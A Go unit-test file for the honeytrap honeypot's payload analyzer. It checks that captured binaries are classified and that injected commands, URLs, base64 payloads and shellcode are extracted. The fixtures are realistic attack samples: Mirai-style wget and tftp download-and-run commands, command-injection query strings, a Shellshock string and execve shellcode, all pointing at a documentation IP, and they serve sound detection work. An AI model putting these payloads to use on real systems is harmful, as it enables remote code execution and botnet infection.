@@ -0,0 +1,189 @@
+// Copyright 2016-2019 DutchSec (https://dutchsec.com/)
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+// http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+package analysis
+
+import (
+	"encoding/binary"
+	"strings"
+	"testing"
+
+	"github.com/honeytrap/honeytrap/event"
+)
+
+func elfHeader(class, data byte, machine uint16) []byte {
+	b := make([]byte, 64)
+	copy(b, "\x7fELF")
+	b[4] = class
+	b[5] = data
+	b[6] = 1
+
+	if data == 2 {
+		binary.BigEndian.PutUint16(b[18:], machine)
+	} else {
+		binary.LittleEndian.PutUint16(b[18:], machine)
+	}
+
+	return b
+}
+
+func peHeader(machine, magic uint16) []byte {
+	b := make([]byte, 0x80+26)
+	copy(b, "MZ")
+	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
+	copy(b[0x80:], "PE\x00\x00")
+	binary.LittleEndian.PutUint16(b[0x84:], machine)
+	binary.LittleEndian.PutUint16(b[0x98:], magic)
+	return b
+}
+
+func TestAnalyze(t *testing.T) {
+	arm := append(elfHeader(1, 1, 40), []byte("\x00/bin/busybox wget http://192.0.2.1/bins/mirai.arm\x00UPX!")...)
+
+	r := Analyze(arm)
+	if r.Format != FormatELF || r.Arch != "arm" || r.Bits != 32 || r.Endianness != "little" {
+		t.Errorf("Expected 32 bit little endian arm elf, got %+v", r)
+	}
+
+	if r.Packer != "upx" {
+		t.Errorf("Expected upx packer, got %s", r.Packer)
+	}
+
+	if len(r.URLs) != 1 || r.URLs[0] != "http://192.0.2.1/bins/mirai.arm" {
+		t.Errorf("Expected url to be extracted, got %v", r.URLs)
+	}
+
+	if len(r.Strings) != 1 || r.Strings[0] != "/bin/busybox wget http://192.0.2.1/bins/mirai.arm" {
+		t.Errorf("Expected string to be extracted, got %v", r.Strings)
+	}
+
+	if r := Analyze(elfHeader(2, 2, 8)); r.Arch != "mips" || r.Bits != 64 || r.Endianness != "big" {
+		t.Errorf("Expected 64 bit big endian mips elf, got %+v", r)
+	}
+
+	if r := Analyze(peHeader(0x8664, 0x20b)); r.Format != FormatPE || r.Arch != "x86-64" || r.Bits != 64 {
+		t.Errorf("Expected 64 bit x86-64 pe, got %+v", r)
+	}
+
+	if r := Analyze([]byte("#!/bin/sh\ncd /tmp; tftp -g -r x 192.0.2.1\n")); r.Format != FormatScript || r.Interpreter != "/bin/sh" {
+		t.Errorf("Expected shell script, got %+v", r)
+	}
+
+	if r := Analyze([]byte("GET / HTTP/1.1\r\nHost: example.com\r\n\r\n")); r.Interesting() {
+		t.Errorf("Expected plain request not to be interesting, got %+v", r)
+	}
+}
+
+func TestAnalyzer(t *testing.T) {
+	a, err := New()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	e := event.New(
+		event.Custom("tftp.file", elfHeader(1, 1, 3)),
+	)
+
+	a.Send(e)
+
+	if v := e.Get("analysis.format"); v != FormatELF {
+		t.Errorf("Expected elf format, got %s", v)
+	}
+
+	if v := e.Get("analysis.arch"); v != "386" {
+		t.Errorf("Expected 386 arch, got %s", v)
+	}
+
+	if v := e.Get("analysis.field"); v != "tftp.file" {
+		t.Errorf("Expected tftp.file field, got %s", v)
+	}
+
+	e = event.New(
+		event.Custom("payload", "GET /index.html HTTP/1.1\r\n\r\n"),
+	)
+
+	a.Send(e)
+
+	if v := e.Get("analysis.format"); v != "" {
+		t.Errorf("Expected plain request not to be analyzed, got %s", v)
+	}
+
+	e = event.New(
+		event.Custom("http.url", "/shell?cd+/tmp;wget+http://192.0.2.1/bins.sh"),
+	)
+
+	a.Send(e)
+
+	e.Range(func(k, v interface{}) bool {
+		switch k {
+		case "analysis.commands":
+			if commands, _ := v.([]string); strings.Join(commands, "|") != "cd /tmp|wget http://192.0.2.1/bins.sh" {
+				t.Errorf("Expected injected commands, got %v", v)
+			}
+		case "analysis.urls":
+			if urls, _ := v.([]string); len(urls) != 1 {
+				t.Errorf("Expected url, got %v", v)
+			}
+		}
+
+		return true
+	})
+}
+
+func contains(values []string, value string) bool {
+	for _, v := range values {
+		if v == value {
+			return true
+		}
+	}
+
+	return false
+}
+
+func TestExtract(t *testing.T) {
+	x := Extract([]byte("/cgi-bin/ping.cgi?ip=127.0.0.1%3Bcd%20/tmp%3Bwget${IFS}http://192.0.2.1/x.sh%3Bchmod%20777%20x.sh%3B./x.sh"))
+
+	expected := []string{"cd /tmp", "wget http://192.0.2.1/x.sh", "chmod 777 x.sh", "./x.sh"}
+	if strings.Join(x.Commands, "|") != strings.Join(expected, "|") {
+		t.Errorf("Expected commands %v, got %v", expected, x.Commands)
+	}
+
+	if len(x.URLs) != 1 || x.URLs[0] != "http://192.0.2.1/x.sh" {
+		t.Errorf("Expected url to be extracted, got %v", x.URLs)
+	}
+
+	// echo "curl http://192.0.2.1/a | sh" | base64
+	x = Extract([]byte("cmd=echo Y3VybCBodHRwOi8vMTkyLjAuMi4xL2EgfCBzaAo= | base64 -d | sh"))
+
+	if len(x.Decoded) != 1 || x.Decoded[0] != "curl http://192.0.2.1/a | sh\n" {
+		t.Errorf("Expected base64 payload to be decoded, got %v", x.Decoded)
+	}
+
+	if !contains(x.Commands, "curl http://192.0.2.1/a") || !contains(x.Commands, "base64 -d") {
+		t.Errorf("Expected decoded command to be extracted, got %v", x.Commands)
+	}
+
+	x = Extract([]byte(`() { :;}; /bin/bash -c "wget http://192.0.2.1/bot"`))
+	if !contains(x.Commands, "/bin/bash -c") || !contains(x.Commands, "wget http://192.0.2.1/bot") {
+		t.Errorf("Expected shellshock commands, got %v", x.Commands)
+	}
+
+	x = Extract([]byte(`buf=\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x31\xc0\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e`))
+	if strings.Join(x.Shellcode, ",") != "escaped-hex,nop-sled,execve-binsh,xor-push" {
+		t.Errorf("Expected shellcode patterns, got %v", x.Shellcode)
+	}
+
+	if x := Extract([]byte("GET /index.html?id=5&session=dGhpcyBpcyBhIHRlc3Q HTTP/1.1\r\nCookie: a=1; id=5\r\n")); len(x.Commands) != 0 {
+		t.Errorf("Expected no commands, got %v", x.Commands)
+	}
+}